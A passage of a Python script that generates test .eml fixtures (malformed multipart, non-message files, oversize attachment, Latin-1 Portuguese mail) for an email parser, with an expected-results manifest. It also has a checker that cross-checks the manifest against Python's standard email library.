# 43 multipart whose closing boundary delimiter never comes (truncated html part)
mid = "<6a7b8c9d0e1f2a3b@ilyina.example.ru>"
bnd = "=_alt_5e6f7a8b9c0d"
raw = message([
    ("From", addr("Вероника Ильина", "v.ilyina@example.ru")),
    ("To", SUPPORT),
    ("Subject", ew_b("Не отображается история заявок")),
    ("Date", date(1, 12, 17, 5, 45)),
    ("Message-ID", mid),
    ("MIME-Version", "1.0"),
    ("Content-Type", 'multipart/alternative; boundary="%s"' % bnd),
], multipart(bnd, [
    part([("Content-Type", "text/plain; charset=utf-8"), ("Content-Transfer-Encoding", "quoted-printable")],
         qp("Добрый вечер! В карточке клиента не отображается история заявок за прошлый год, только текущие.\n\nВероника\n")),
    part([("Content-Type", "text/html; charset=utf-8"), ("Content-Transfer-Encoding", "quoted-printable")],
         qp("<html><body><p>Добрый вечер! В карточке клиента не отображается история заявок за прошлый год, только текущие.</p><p>Вероника</p>\n")),
], close=False))
add("43-missing-closing-boundary.eml", raw, **{
    "from": "v.ilyina@example.ru", "name": "Вероника Ильина", "subject": "Не отображается история заявок", "message_id": mid,
    "text_contains": ["не отображается история заявок за прошлый год"]})

# =========================================================================== not a message / too big
# 44 a PNG image saved with a .eml name
data = png(32, 32, (10, 200, 10)) + rnd(44, 3000)
add("44-not-a-message-png.eml", data, kind="quarantine", eol="raw")

# 45 binary garbage: no header/colon structure at all
data = bytearray(rnd(45, 4096))
for i, b in enumerate(data):
    if b in (0x3A, 0x0A, 0x0D):     # no colons, no line structure
        data[i] = 0x00
add("45-not-a-message-garbage.eml", bytes(data), kind="quarantine", eol="raw")

# 46 oversize (~260 KB): a big base64 JPEG
mid = "<c5d6e7f8-a9b0-4c1d-8e2f-3a4b5c6d7e8f@example.ru>"
jpeg = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + rnd(46, 190000) + b"\xff\xd9"
bnd = "=_big_0a1b2c3d4e5f"
raw = message([
    ("From", addr("Андрей Павлов", "a.pavlov@example.ru")),
    ("To", SUPPORT),
    ("Subject", ew_b("Фото повреждённой упаковки")),
    ("Date", date(1, 12, 17, 40, 0)),
    ("Message-ID", mid),
    ("MIME-Version", "1.0"),
    ("Content-Type", 'multipart/mixed; boundary="%s"' % bnd),
], multipart(bnd, [
    part([("Content-Type", "text/plain; charset=utf-8"), ("Content-Transfer-Encoding", "quoted-printable")],
         qp("Добрый вечер! Посылка пришла с повреждённой упаковкой, фото во вложении.\n")),
    part([("Content-Type", 'image/jpeg; name="IMG_20261201_173512.jpg"'),
          ("Content-Disposition", 'attachment; filename="IMG_20261201_173512.jpg"'),
          ("Content-Transfer-Encoding", "base64")], b64(jpeg)),
]))
add("46-oversize-attachment.eml", raw, kind="oversize", **{
    "from": "a.pavlov@example.ru", "name": "Андрей Павлов", "subject": "Фото повреждённой упаковки", "message_id": mid,
    "attachments": ["IMG_20261201_173512.jpg"],
    "text_contains": ["Посылка пришла с повреждённой упаковкой"]})

# 47 Portuguese, iso-8859-1 QP, Q-encoded subject and name, CC
mid = "<CAPt8Rz0xQ1wE2rT3yU4iO5pA6sD7fG8hJ9kL0zX@mail.gmail.com>"
text = """Olá,

meu pedido não chegou. Comprei no dia 20 de novembro (pedido nº 7781) e até agora nada.
Poderiam verificar a situação da entrega? Obrigado pela atenção.

João Conceição
"""
raw = message([
    ("From", addr("João Conceição", "joao.conceicao@example.com.br", "iso-8859-1", "Q")),
    ("To", SUPPORT),
    ("Cc", addr("Maria Souza", "maria.souza@example.com.br", "iso-8859-1", "Q") + ", financeiro@example.com.br"),
    ("Subject", ew_q("Olá, meu pedido não chegou", "iso-8859-1")),
    ("Date", date(1, 12, 14, 5, 0, "-0300")),
    ("Message-ID", mid),
    ("MIME-Version", "1.0"),
    ("Content-Type", 'text/plain; charset="iso-8859-1"'),
    ("Content-Transfer-Encoding", "quoted-printable"),
], qp(text, "iso-8859-1"))
add("47-portuguese-latin1-cc.eml", raw, **{
    "from": "joao.conceicao@example.com.br", "name": "João Conceição", "subject": "Olá, meu pedido não chegou",
    "message_id": mid, "cc": ["maria.souza@example.com.br", "financeiro@example.com.br"],
    "text_contains": ["meu pedido não chegou", "Poderiam verificar a situação da entrega?"]})


# --------------------------------------------------------------------------- output
def write():
    for name, raw in CORPUS.items():
        (HERE / name).write_bytes(raw)
    with open(HERE / "expected.json", "w", encoding="utf-8") as fh:
        json.dump(dict(sorted(EXPECTED.items())), fh, ensure_ascii=False, indent=2)
        fh.write("\n")


def check():
    """Cross-check the manifest with the standard library; print what it gets wrong."""
    import email
    import email.policy

    def same(a, b):
        return a == b

    bad = 0
    for name in sorted(EXPECTED):
        exp, raw, notes = EXPECTED[name], CORPUS[name], []
        kind = exp["kind"]
        if kind == "oversize":
            assert len(raw) > 200000, name
        else:
            assert len(raw) < 200000, name
        msg = email.message_from_bytes(raw, policy=email.policy.default)
        if kind == "quarantine":
            print("%-44s quarantine: stdlib headers=%r defects=%s" % (name, msg.keys(), [type(d).__name__ for d in msg.defects]))
            continue

        def get(h, msg=msg):
            try:
                return msg[h]
            except Exception as e:
                return "!%s: %s" % (type(e).__name__, e)

        frm = get("from")
        try:
            a = frm.addresses[0]
            gf, gn = a.addr_spec.lower(), a.display_name
        except Exception as e:
            gf = gn = "!%s" % type(e).__name__
        if gf != exp["from"]:
            notes.append("from=%r" % gf)
        if gn != exp.get("name", ""):
            notes.append("name=%r" % gn)
        s = get("subject")
        if str(s) != exp["subject"]:
            notes.append("subject=%r" % str(s))
        m = get("message-id")
        if (str(m).strip() if m is not None else None) != exp["message_id"]:
            notes.append("message-id=%r" % m)
        if "in_reply_to" in exp and str(get("in-reply-to")).strip() != exp["in_reply_to"]:
            notes.append("in-reply-to=%r" % get("in-reply-to"))
        if "references" in exp and str(get("references")).split() != exp["references"]:
            notes.append("references=%r" % get("references"))
        if "cc" in exp:
            cc = [x.addr_spec.lower() for x in get("cc").addresses]
            if cc != exp["cc"]:
                notes.append("cc=%r" % cc)
        if exp.get("auto_reason") not in (None, "From") and get(exp["auto_reason"]) is None:
            notes.append("missing %s" % exp["auto_reason"])
        # body
        want = "text/html" if exp.get("html_only") else "text/plain"
        body = None
        for p in msg.walk():
            if p.get_content_type() == want and p.get_content_disposition() != "attachment":
                body = p
                break
        if body is None:
            notes.append("NO %s BODY" % want)
        else:
            cs = TRUE_CHARSET.get(name) or body.get_content_charset() or "ascii"
            cte = str(body.get("content-transfer-encoding", "")).strip().lower()
            data = body.get_payload(decode=True)
            if cte == "quoted-printable" and str(body["content-transfer-encoding"]) != cte:
                notes.append("get_payload(decode=True) ignores folded CTE %r" % str(body["content-transfer-encoding"]))
                data = quopri.decodestring(body.get_payload().encode("ascii", "surrogateescape"))
            text = data.decode(cs)
            try:
                gc = body.get_content()
                if gc != text:
                    notes.append("get_content() differs from true decode (declared %r)" % body.get_content_charset())
            except Exception as e:
                notes.append("get_content() raises %s: %s" % (type(e).__name__, e))
            q = exp.get("quoted_contains")
            qpos = text.find(q) if q else len(text)
            if q and qpos < 0:
                notes.append("MANIFEST: quoted_contains missing")
                bad += 1
            for t in exp.get("text_contains", []):
                i = text.find(t)
                if i < 0 or i > qpos:
                    notes.append("MANIFEST: text_contains %r not in new text" % t)
                    bad += 1
        # attachments
        if True:  # attachments
            walked = [p.get_filename() for p in msg.walk()
                      if not p.is_multipart() and p.get_content_disposition() == "attachment"]
            if walked != exp.get("attachments", []):
                notes.append("walk attachments=%r" % walked)
                if exp.get("attachments"):
                    bad += 1
            try:
                ia = [p.get_filename() for p in msg.iter_attachments()]
                if ia != exp.get("attachments", []):
                    notes.append("iter_attachments()=%r" % ia)
            except Exception as e:
                notes.append("iter_attachments() raises %s" % e)
        html = "".join(p.get_payload(decode=True).decode(p.get_content_charset() or "utf-8")
                       for p in msg.walk() if p.get_content_type() == "text/html")
        inl = sum(1 for p in msg.walk() if p["content-id"] and ("cid:" + str(p["content-id"]).strip("<> ")) in html)
        if inl != exp.get("inline_images", 0):
            notes.append("MANIFEST: inline images %d" % inl)
            bad += 1
        if kind == "bounce":
            found = None
            for p in msg.walk():
                if p.get_content_type() == "message/rfc822":
                    found = p.get_payload(0)["message-id"]
                elif p.get_content_type() == "text/rfc822-headers":
                    found = email.message_from_string(p.get_content(), policy=email.policy.default)["message-id"]
            if str(found).strip() != exp["bounce_of"] or ("Status: " + exp["bounce_status"]).encode() not in raw:
                notes.append("MANIFEST: bounce_of/status (%r)" % found)
                bad += 1
        if msg.defects:
            notes.append("defects=%s" % [type(d).__name__ for d in msg.defects])
        print("%-44s %s" % (name, "; ".join(notes) or "ok"))
    print("manifest problems:", bad)
    return bad


if __name__ == "__main__":
    write()
    print("wrote %d files + expected.json to %s" % (len(CORPUS), HERE))
    if "--check" in sys.argv:
        sys.exit(1 if check() else 0)
